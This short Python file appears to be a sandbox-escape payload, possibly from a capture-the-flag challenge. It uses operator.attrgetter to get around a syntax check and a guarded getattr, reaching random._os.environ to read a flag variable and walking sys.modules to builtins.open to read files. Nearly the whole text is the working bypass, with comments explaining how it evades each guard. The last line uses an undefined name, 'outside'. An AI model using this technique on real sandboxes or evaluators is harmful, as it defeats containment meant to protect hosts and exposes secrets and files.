# operator.attrgetter is getattr by another name, with a whole path in one text. A check that
# guards getattr and reads the syntax sees neither.
import random
from operator import attrgetter

# The syntax check refuses random._os, and the guarded getattr refuses "_os". This is a constant,
# given to a function of an allowed module.
environ = attrgetter("_os.environ")(random)
print(environ["MUSEUM_FLAG"])

# The path may be of any length, and may be put together at run time.
modules = attrgetter(".".join(["_os", "sys", "modules"]))(random)
print(modules["builtins"].open(outside["file"]).read())
